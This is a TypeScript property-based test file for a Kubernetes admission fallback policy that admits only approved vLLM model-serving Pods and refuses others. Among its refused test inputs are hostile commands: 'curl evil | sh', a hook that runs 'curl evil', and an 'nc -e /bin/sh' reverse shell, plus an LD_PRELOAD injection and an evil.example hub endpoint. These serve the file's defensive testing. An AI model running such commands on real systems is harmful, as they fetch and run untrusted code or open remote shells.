import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { fallbackManifests } from '../../admission-webhook/src/fallback/manifests.ts';
import { answerFor, MANIFESTS, production, RUNS } from '../admission-webhook/decide/evasions.ts';
import { document, entry, NOW, sha256 } from '../snapshot/samples.ts';
import { hasKube, KUBE_HOW, type KubeObject, ML_KINDS, type RunningKube, startKube } from '../support/kube/index.ts';
import { requirePart } from '../support/parts.ts';

const GOOD = '1'.repeat(40);
const refs = [
  `hf://good/model@${GOOD}`,
  `hf://good/lora@${GOOD}`,
  `oci://registry.example/good/model@sha256:${'d'.repeat(64)}`,
];
const SNAPSHOT = document({
  entries: refs.map((ref) => entry({ model: ref, digest: sha256(ref), refs: [ref] })),
  images: [{ digest: RUNS, notAfter: null }],
});

/** Objects of KServe that are refused with their Pods. */
const WITH_ITS_POD: readonly string[] = ['isvc-custom', 'isvc-env'];
/** Objects of the corpus that are decided on here. */
const BOTH = 100;
const ARGS = ['--model', 'good/model', '--revision', GOOD];
const server = (more: object) => ({ image: `vllm/vllm-openai@${RUNS}`, args: ARGS, ...more });
const pod = (container: object, spec: object = {}) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p' },
  spec: { containers: [{ name: 'c', ...container }], ...spec },
});
const mounting = (source: object, mountPath: string) =>
  pod(server({ volumeMounts: [{ name: 'v', mountPath }] }), { volumes: [{ name: 'v', ...source }] });
const other = (...command: readonly string[]) => pod({ image: `acme/x@${RUNS}`, command });
const field = (fieldPath: string) => ({ valueFrom: { fieldRef: { fieldPath } } });

/** By the title of their test. */
const ADMITTED: Readonly<Record<string, ReturnType<typeof pod>>> = {
  'vLLM with plain arguments': pod(
    server({ args: [...ARGS, '--port', '8000', '--dtype=bfloat16', '--enforce-eager'] }),
  ),
  'vllm serve': pod(server({ command: ['vllm', 'serve', 'good/model', '--revision', GOOD], args: [] })),
  'vLLM as a module of Python': pod(server({ command: ['python3', '-m', 'vllm.entrypoints.openai.api_server'] })),
  'a server with credentials, what the kubelet knows, and probes': pod(
    server({
      env: [
        { name: 'HF_TOKEN', valueFrom: { secretKeyRef: { name: 'hub', key: 'token' } } },
        { name: 'POD_IP', ...field('status.podIP') },
        { name: 'TZ', value: 'UTC' },
      ],
      livenessProbe: { httpGet: { path: '/health', port: 8000 } },
      lifecycle: { preStop: { exec: { command: ['sleep', '5'] } } },
      resources: { limits: { cpu: '1' } },
    }),
  ),
  'a cache of its own': mounting({ emptyDir: {} }, '/root/.cache'),
  settings: mounting({ configMap: { name: 'x' } }, '/etc/config'),
  'a loop that waits': other('sh', '-c', 'until nc -z db 5432; do sleep 2; done'),
  'a program that loads nothing': other('sleep', 'infinity'),
};
const TABLE = /in no table, of container c/;
const OPEN = /variables, hooks or privileges .*container c/;
const OVER = /a volume may lie over its code, .*container c/;
const REFUSED: Readonly<Record<string, readonly [ReturnType<typeof pod>, RegExp]>> = {
  'an image that nobody approved': [
    pod(server({ image: `vllm/vllm-openai@sha256:${'a'.repeat(64)}` })),
    /not approved by its digest, of container c/,
  ],
  'an image by its tag': [pod(server({ image: 'vllm/vllm-openai:v1' })), /not approved by its digest/],
  'an unknown program': [other('/app/run'), TABLE],
  'an interpreter': [other('python3', '-c', 'print()'), TABLE],
  'a script': [other('sh', '-c', 'sleep 1; curl evil | sh'), TABLE],
  'an argument that no table knows': [pod(server({ args: [...ARGS, '--plugin', 'x'] })), TABLE],
  'a second word that names a model': [pod(server({ args: ['good/model', 'evil/model', '--revision', GOOD] })), TABLE],
  'a variable of the linker': [pod(server({ env: [{ name: 'LD_PRELOAD', value: '/x.so' }] })), OPEN],
  'a label as a variable': [pod(server({ env: [{ name: 'POD_NAME', ...field("metadata.labels['x']") }] })), OPEN],
  'a hook': [pod(server({ lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl evil'] } } } })), OPEN],
  'a probe that runs a program': [pod(server({ livenessProbe: { exec: { command: ['/evil'] } } })), OPEN],
  privileges: [pod(server({ securityContext: { capabilities: { add: ['SYS_PTRACE'] } } })), OPEN],
  'a volume that others write to': [mounting({ persistentVolumeClaim: { claimName: 'x' } }, '/root/.cache'), OVER],
  'settings over its code': [mounting({ configMap: { name: 'x' } }, '/usr/lib/python3'), OVER],
  'the processes of the node': [pod(server({}), { hostPID: true }), /reach into each other/],
  'a filler in an init container': [
    pod(server({}), { initContainers: [{ name: 'i', image: `acme/x@${RUNS}`, command: ['/fill'] }] }),
    /in no table, of container i/,
  ],
};

const WORDS = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom([], ['--port', '8000'], ['--dtype=auto'], ['--enforce-eager'], ['--host', '::']),
  },
  fc.constantFrom<string[]>(
    ['--model', 'evil/model'],
    ['--tokenizer', 'evil/model'],
    ['--trust-remote-code'],
    ['--load-format', 'pt'],
    ['--lora-modules', 'a=evil/model'],
    ['--download-dir', '/models'],
    ['--mod', 'evil/model'],
    ['evil/model'],
    ['--port', '--model', 'evil/model'],
    ['--chat-template', '/x'],
    ['--config', 'x.yaml'],
    ['--quantization', 'evil/model'],
    ['--seed', '$(SEED)'],
    ['--served-model-name', 'x'],
  ),
);
const COMMANDS = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom<string[]>(
      [],
      ['vllm', 'serve'],
      ['python3', '-m', 'vllm.entrypoints.openai.api_server'],
    ),
  },
  fc.constantFrom<string[]>(
    ['/usr/local/bin/vllm', 'serve'],
    ['/tmp/vllm', 'serve'],
    ['sh', '-c', 'sleep 1'],
    ['sh', '-c', 'sleep 1; x'],
    ['sh', '-ec', 'echo hf://evil/model'],
    ['sleep', '1'],
    ['sleep', '1', '; x'],
    ['nc', '-z', 'h', '1'],
    ['nc', '-e', '/bin/sh', 'h', '1'],
    ['text-generation-launcher'],
    ['python3', '-u', '-m', 'sglang.launch_server', '--admin-api-key', 'k'],
    ['python3', '-m', 'huggingfaceserver'],
    ['env', 'vllm', 'serve'],
    ['tini', '--', 'vllm', 'serve'],
  ),
);
const MODEL = fc.constantFrom<string[]>(
  [],
  ['--model', 'good/model', '--revision', GOOD],
  ['good/model', '--revision', GOOD],
);
const ENVIRONMENT = fc.constantFrom<object>(
  { name: 'TZ', value: 'UTC' },
  { name: 'TZ', value: '../../x y' },
  { name: 'LOG_LEVEL', value: 'debug' },
  { name: 'LOG_LEVEL', value: '/x' },
  { name: 'HF_HOME', value: '/data' },
  { name: 'HF_ENDPOINT', value: 'https://evil.example' },
  { name: 'HF_HUB_OFFLINE', value: '1' },
  { name: 'VLLM_PLUGINS', value: 'x' },
  { name: 'VLLM_LOGGING_LEVEL', value: 'DEBUG' },
  { name: 'VLLM_LOGGING_LEVEL', value: '/x y' },
  { name: 'MODEL_ID', value: 'evil/model' },
  { name: 'NCCL_DEBUG', value: '/x y' },
  { name: 'LWS_LEADER_ADDRESS', value: 'x y' },
  { name: 'PYTHONPATH', value: '/x' },
  { name: 'HF_TOKEN', value: 'x' },
  { name: 'CUDA_VISIBLE_DEVICES', value: '0,1' },
);
const VOLUMES: Readonly<Record<string, object>> = {
  empty: { emptyDir: {} },
  good: { image: { reference: `registry.example/good/model@sha256:${'d'.repeat(64)}` } },
  evil: { image: { reference: `registry.example/evil@sha256:${'e'.repeat(64)}` } },
  settings: { secret: { secretName: 's' } },
  labels: { downwardAPI: { items: [{ path: 'l', fieldRef: { fieldPath: 'metadata.labels' } }] } },
  host: { hostPath: { path: '/x' } },
};
const MOUNT = fc.record({
  name: fc.constantFrom(...Object.keys(VOLUMES)),
  mountPath: fc.constantFrom(
    '/data',
    '/models',
    '/usr/bin',
    '/etc/config',
    '/root/.cache',
    '/var/log',
    '/data/good',
    '/tmp/',
  ),
});
const CONTAINER = fc
  .record({
    image: fc.constantFrom(
      ...Array.from({ length: 4 }, () => `vllm/vllm-openai@${RUNS}`),
      `acme/x@${RUNS}`,
      'acme/x:1',
    ),
    command: COMMANDS,
    model: MODEL,
    words: fc.array(WORDS, { maxLength: 2 }),
    env: fc.array(ENVIRONMENT, { maxLength: 1 }),
    volumeMounts: fc.uniqueArray(MOUNT, { maxLength: 1, selector: ({ mountPath }) => mountPath }),
  })
  .map(({ command, model, words, ...more }) => ({ ...more, command, args: [...model, ...words.flat()] }));
const anyPod = fc.array(CONTAINER, { minLength: 1, maxLength: 2 }).map((all) =>
  pod(
    {},
    {
      containers: all.map((one, at) => ({ ...one, name: `c${at}` })),
      volumes: [...new Set(all.flatMap((one) => one.volumeMounts.map(({ name }) => name)))].map((name) => ({
        name,
        ...VOLUMES[name],
      })),
    },
  ),
);

requirePart('kube-apiserver and etcd', hasKube, KUBE_HOW, 'the fallback for production on a real API server', () => {
  let kube: RunningKube;
  beforeAll(async () => {
    kube = await startKube();
    await kube.installCrds(
      ML_KINDS.filter(({ kind }) => kind === 'InferenceService' || kind === 'LLMInferenceService'),
    );
    await kube.createNamespace('assay');
    await kube.createNamespace('ml', { 'assay.dev/admission': 'enforce', 'assay.dev/stage': 'production' });
    const { yaml } = fallbackManifests(SNAPSHOT, { now: NOW, namespace: 'assay', stage: 'production' });
    await kube.createAll(parseAllDocuments(yaml).map((one): KubeObject => one.toJS()));
  });
  afterAll(() => kube?.stop());

  const PLACES: Readonly<Record<string, string>> = {
    InferenceService: '/apis/serving.kserve.io/v1beta1/namespaces/ml/inferenceservices',
    Pod: '/api/v1/namespaces/ml/pods',
    Deployment: '/apis/apps/v1/namespaces/ml/deployments',
    StatefulSet: '/apis/apps/v1/namespaces/ml/statefulsets',
    DaemonSet: '/apis/apps/v1/namespaces/ml/daemonsets',
    Job: '/apis/batch/v1/namespaces/ml/jobs',
    CronJob: '/apis/batch/v1/namespaces/ml/cronjobs',
  };
  const ask = async (object: Readonly<Record<string, unknown>>) => {
    const path = PLACES[String(object.kind)] ?? '';
    const { status, body } = await kube.request('POST', `${path}?dryRun=All`, object);
    return { status, message: String(body.message) };
  };

  it('decides as the webhook does on the Pods of the corpus and what makes Pods', async () => {
    const held = await production();
    const differs: string[] = [];
    let [both, admitted] = [0, 0];
    for (const { id, object } of MANIFESTS.filter((one) => one.object.kind in PLACES)) {
      const { allowed } = answerFor(object, held);
      const { status, message } = await ask({ ...object });
      // What the API server itself refuses is asked about by nobody.
      if (status === 422 && !message.includes('ValidatingAdmissionPolicy')) continue;
      expect({ id, message }).toEqual({ id, message: expect.not.stringMatching(/budget|no such|evaluat/) });
      if ((status === 201) !== allowed) differs.push(`${id}: ${status} ${message}`);
      else both++;
      if (status === 201) admitted++;
    }
    // What names its model in its arguments alone is refused with its Pod.
    expect(differs.map((one) => one.split(':')[0]).sort()).toEqual(WITH_ITS_POD);
    expect({ both: both > BOTH, admitted: admitted > 0 }).toEqual({ both: true, admitted: true });
  });

  it.each(Object.entries(ADMITTED))('admits %s, as the webhook does', async (_, object) => {
    const { allowed, message } = answerFor(object, await production());
    expect({ allowed, message }).toEqual({ allowed: true, message: '' });
    expect(await ask({ ...object })).toMatchObject({ status: 201 });
  });

  it.each(Object.entries(REFUSED))('refuses %s, and says which container and why', async (_, [object, why]) => {
    const { status, message } = await ask({ ...object });
    expect({ status, message }).toEqual({ status: 403, message: expect.stringMatching(why) });
  });

  it('admits no Pod of any pieces that the webhook refuses', async () => {
    const held = await production();
    let admitted = 0;
    await fc.assert(
      fc.asyncProperty(anyPod, async (object) => {
        const { status, message } = await ask({ ...object });
        expect(message).not.toMatch(/no such|evaluat/);
        if (status !== 201) return;
        admitted++;
        const told = answerFor(object, held);
        expect({ object, allowed: told.allowed, message: told.message }).toMatchObject({ allowed: true });
      }),
      { numRuns: Number(process.env.ASSAY_FALLBACK_RUNS ?? 300) },
    );
    expect(admitted).toBeGreaterThan(10);
  });

  it('takes eight containers with forty arguments each, and refuses what costs more than the API server allows', async () => {
    const words = [...ARGS, ...Array.from({ length: 18 }, (_, port) => ['--port', String(port)]).flat()];
    const many = (count: number) => {
      const containers = Array.from({ length: count }, (_, at) => ({ ...server({ args: words }), name: `c${at}` }));
      return ask(pod({}, { containers }));
    };
    expect(await many(8)).toMatchObject({ status: 201 });
    const over = await many(200);
    expect({ ...over, status: over.status >= 400 }).toEqual({
      status: true,
      message: expect.stringMatching(/budget|cost/),
    });
  });
});
